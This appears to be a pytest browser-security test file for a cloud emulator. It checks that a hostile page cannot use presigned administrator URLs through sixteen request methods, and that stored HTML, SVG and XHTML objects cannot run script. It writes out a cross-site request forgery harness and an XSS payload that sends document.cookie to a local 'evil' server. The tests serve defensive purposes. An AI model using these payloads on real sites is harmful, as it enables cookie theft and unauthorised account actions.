"""A hostile page in a real browser: even with signatures that are right, it gets nothing done."""

from __future__ import annotations

import json
import threading
import urllib.request
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import TYPE_CHECKING, Any
from urllib.parse import urlencode

import pytest
from botocore.auth import SigV4QueryAuth
from botocore.awsrequest import AWSRequest
from botocore.credentials import Credentials

from labkit.cloud import open_scene
from tests.cloud.conftest import DEFINITION
from tests.cloud.wire.test_web_pages import presigned

if TYPE_CHECKING:
    from collections.abc import Iterator

    from playwright.sync_api import Browser, Page

    from labkit.cloud import Scene

pytestmark = pytest.mark.browser

# Every way that a page has, with addresses (`urls`: one a way) that are signed as an administrator's.
_HOSTILE = """async urls => {
    const ways = {
        image: url => { new Image().src = url; },
        script: url => add('script', {src: url}),
        style: url => add('link', {rel: 'stylesheet', href: url}),
        frame: url => add('iframe', {src: url}),
        object: url => add('object', {data: url}),
        media: url => add('video', {src: url}),
        prefetch: url => add('link', {rel: 'prefetch', href: url}),
        get: url => fetch(url, {mode: 'no-cors'}),
        post: url => fetch(url, {method: 'POST', mode: 'no-cors', body: '', credentials: 'include'}),
        beacon: url => navigator.sendBeacon(url, ''),
        events: url => { new EventSource(url); },
        socket: url => { new WebSocket(url.replace('http', 'ws')); },
        form: url => { const form = add('form', {action: url, method: 'POST', target: 'f'}); form.submit(); },
        window: url => { window.open(url); },
        cors: url => fetch(url).then(answer => answer.text()).then(text => { window.read = text; }),
        put: url => fetch(url, {method: 'PUT', headers: {'x-amz-acl': 'private'}}),
    };
    const add = (tag, given) => document.body.appendChild(Object.assign(document.createElement(tag), given));
    add('iframe', {name: 'f'});
    await Promise.allSettled(Object.keys(ways).map((way, at) => (async () => ways[way](urls[at]))()));
    await new Promise(done => setTimeout(done, 700));
    return [Object.keys(ways).length, window.read || ''];
}"""
_WAYS = 16


class _Evil(BaseHTTPRequestHandler):
    seen: list[str] = []  # noqa: RUF012 - one server

    def do_GET(self) -> None:
        self.seen.append(self.path)
        if self.path.startswith("/to/"):
            self.send_response(302)
            self.send_header("location", self.path.removeprefix("/to/"))
        else:
            self.send_response(200)
            self.send_header("content-type", "text/html")
        self.end_headers()
        self.wfile.write(b"<title>evil</title><body>")

    def log_message(self, *_: Any) -> None:
        """Quiet."""


@pytest.fixture
def scene(browser: Browser) -> Iterator[Scene]:
    opened = open_scene(DEFINITION)  # after the browser, which mustn't take over the scene's environment
    yield opened
    opened.close()


@pytest.fixture
def evil() -> Iterator[int]:
    """The port of a hostile server on this machine, as a neighbor's page on Jupyter's own host would be."""
    server = ThreadingHTTPServer(("127.0.0.1", 0), _Evil)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield server.server_address[1]
    server.shutdown()
    server.server_close()


@pytest.fixture
def page(browser: Browser) -> Iterator[Page]:
    context = browser.new_context()
    yield context.new_page()
    context.close()


def _makes_user(scene: Scene, name: str, method: str = "GET") -> str:
    """An address that makes a user, signed with an administrator's secret."""
    keys = scene._wallet.long_term["production-admin"]
    asked = {"Action": "CreateUser", "UserName": name, "Version": "2010-05-08"}
    request = AWSRequest(method=method, url=f"{scene.endpoint_url}/?{urlencode(asked)}")
    SigV4QueryAuth(Credentials(keys.access_key_id, keys.secret), "iam", "us-east-1").add_auth(request)
    return str(request.url)


def _users(scene: Scene) -> list[str]:
    return [user["UserName"] for user in scene.inspect("999999999999", "iam").list_users()["Users"]]


@pytest.mark.parametrize("host", ["127.0.0.1", "localhost"])
def test_a_page_makes_no_call(scene: Scene, page: Page, evil: int, host: str) -> None:
    page.goto(f"http://{host}:{evil}/")
    mark = scene.trail.mark()
    methods = {8: "POST", 9: "POST", 12: "POST", 15: "PUT"}
    urls = [_makes_user(scene, f"eve{way}", methods.get(way, "GET")) for way in range(_WAYS)]
    ways, read = page.evaluate(_HOSTILE, urls)
    assert ways == _WAYS
    assert read == ""
    assert _users(scene) == ["ProductionAdmin"]
    assert scene.trail.since(mark) == ()


def test_a_client_makes_the_same_call(scene: Scene) -> None:
    """What the page can't do isn't stopped by anything but that it is a page."""
    with urllib.request.urlopen(_makes_user(scene, "by-hand"), timeout=10) as answer:  # noqa: S310 - ours
        assert answer.status == 200
    assert "by-hand" in _users(scene)


def test_a_page_that_was_typed_leads_nowhere(scene: Scene, page: Page, evil: int) -> None:
    """A typed address that leads on to us counts as typed; without a secret, it is nobody's call."""
    unsigned = f"{scene.endpoint_url}/?Action=CreateUser&UserName=eve&Version=2010-05-08"
    page.goto(f"http://127.0.0.1:{evil}/to/{unsigned}", wait_until="commit")
    assert _users(scene) == ["ProductionAdmin"]


def test_an_object_that_is_opened_runs_nothing(scene: Scene, page: Page, evil: int) -> None:
    """A bucket's page, opened by hand: it is shown, runs no script, and sees nothing of Jupyter's host."""
    page.context.add_cookies([{"name": "_xsrf", "value": "of-jupyter", "url": f"http://127.0.0.1:{evil}/"}])
    script = f"document.title = 'ran'; fetch('http://127.0.0.1:{evil}/stolen?' + document.cookie)"
    bodies = {
        "page.html": (
            "text/html",
            f"<title>still</title><p>shown<script>{script}</script><img src=x onerror={json.dumps(script)}>",
        ),
        "page.svg": (
            "image/svg+xml",
            f'<svg xmlns="http://www.w3.org/2000/svg"><script>{script}</script></svg>',
        ),
        "page.xhtml": (
            "application/xhtml+xml",
            f'<html xmlns="http://www.w3.org/1999/xhtml"><body><script>{script}</script></body></html>',
        ),
    }
    s3 = scene.client("production-admin", "s3")
    for key, (kind, body) in bodies.items():
        s3.put_object(Bucket="productionapp", Key=key, Body=body.encode(), ContentType=kind)
        answer = page.goto(presigned(scene, "get_object", {"Bucket": "productionapp", "Key": key}))
        assert answer is not None
        assert answer.status == 200
        page.wait_for_timeout(200)
        assert page.title() != "ran"
    assert not [path for path in _Evil.seen if "stolen" in path]
